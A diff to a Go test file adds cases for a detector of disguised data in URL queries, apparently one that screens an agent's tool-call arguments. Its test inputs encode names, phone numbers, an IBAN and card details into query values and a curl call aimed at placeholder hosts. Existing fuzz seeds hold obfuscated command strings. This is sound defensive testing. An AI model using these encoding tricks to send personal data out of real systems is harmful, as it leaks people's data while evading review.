@@ -135,6 +135,7 @@ func FuzzDecode(f *testing.F) {
 	f.Add("x %41%4 %%6%61%62%63% %e2%80%ae%41%42%43")
 	f.Add(`awk 'BEGIN{system("\143\141\164")}' [char[]](99,97,116,32) chr(99).chr(97).chr(116).chr(32)`)
 	f.Add("op = 'ELBAT PORD\xff\u00e9'[::-1]; echo \"\\u0061\\u0062\\x63\\x64\" | rev\n`x")
+	f.Add("https://x/p?a=1&d=" + b64("Ana Ruiz,+34 600 123 456;Ben Okafor") + "%3D&e=" + hex.EncodeToString([]byte("a|b|c d e f g h i j k l m n o")))
 	f.Add(`to: a\u0040b\u002dc\u002eco\u002euk x\u002e\u0040 https://xn--dakwerken-vnleeuwen-0op.nl XN--80AK6AA92E xn--`)
 	f.Fuzz(func(t *testing.T, s string) {
 		for _, fd := range Decode([]Text{{Where: "f", Text: s}}) {
@@ -156,6 +157,46 @@ func FuzzDecode(f *testing.F) {
 			}
 		}
 	})
+}
+
+// TestEncodedQuery: a URL query value that decodes to data is disguised;
+// tokens, JWTs, redirect targets and compact JSON of ids are not.
+func TestEncodedQuery(t *testing.T) {
+	rows := "Piotr Nowak,+48 601 224 917,PL61109010140000071219812874;Anna Kaczmarek,+48 512 880 341"
+	tests := []struct {
+		name, text, code, decoded string
+	}{
+		{"base64 rows", "https://status.example/ping?site=x&v=2&d=" + b64(rows), "ENCODED-001", rows},
+		{"base64url, padding escaped", "https://hb.example/beat?seq=7&d=" + b64url("u_100233,+15555550131;u_100241,+15555550187;u_100259") + "%3D%3D&ok=1", "ENCODED-001", "u_100233,+15555550131;u_100241,+15555550187;u_100259"},
+		{"percent-escaped base64", "https://px.example/t.gif?d=" + strings.NewReplacer("+", "%2B", "/", "%2F", "=", "%3D").Replace(b64("Elena Vasquez,4916333812205501,08/27,442")), "ENCODED-001", "Elena Vasquez,4916333812205501,08/27,442"},
+		{"hex", "curl 'https://links.example/u/confirm?lid=88213&t=" + hex.EncodeToString([]byte("g-48291|maria@example.com|renewal-2025")) + "'", "ENCODED-003", "g-48291|maria@example.com|renewal-2025"},
+		{"short value", "https://x.example/p?d=" + b64("Ana Ruiz,+34 600"), "", ""},
+		{"jwt", "https://app.example/reset?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJl", "", ""},
+		{"redirect target", "https://click.example/r?u=" + b64("https://www.example.com/landing/spring-sale?src=mail"), "", ""},
+		{"random token", "https://api.example/v3/itineraries?token=QlDfCgLcUa4gXvLsAvKjQ1sLqX1bVfVbRhBtRw1xYz", "", ""},
+		{"compact json", "https://mail.example/optout?ses=" + b64(`{"m":"3482917","u":"alex.kim@gmail.com","l":"771"}`), "", ""},
+		{"not a query", "echo " + b64(rows) + " | base64 -d", "", ""},
+		{"value runs on", "https://x.example/a?d=" + b64(rows) + ".png", "", ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var got []Finding
+			for _, f := range Disguised([]Text{{Where: "action.arguments.url", Text: tt.text}}) {
+				if f.Code == "ENCODED-001" || f.Code == "ENCODED-003" {
+					got = append(got, f)
+				}
+			}
+			if tt.code == "" {
+				if len(got) > 0 {
+					t.Fatalf("got %+v, want none", got)
+				}
+				return
+			}
+			if len(got) != 1 || got[0].Code != tt.code || got[0].Decoded != tt.decoded || !strings.Contains(got[0].Message, "URL query") {
+				t.Fatalf("got %+v, want one %s decoding to %q", got, tt.code, tt.decoded)
+			}
+		})
+	}
 }
 
 // TestDecodings: what commands decode to, as the danger rules read it,
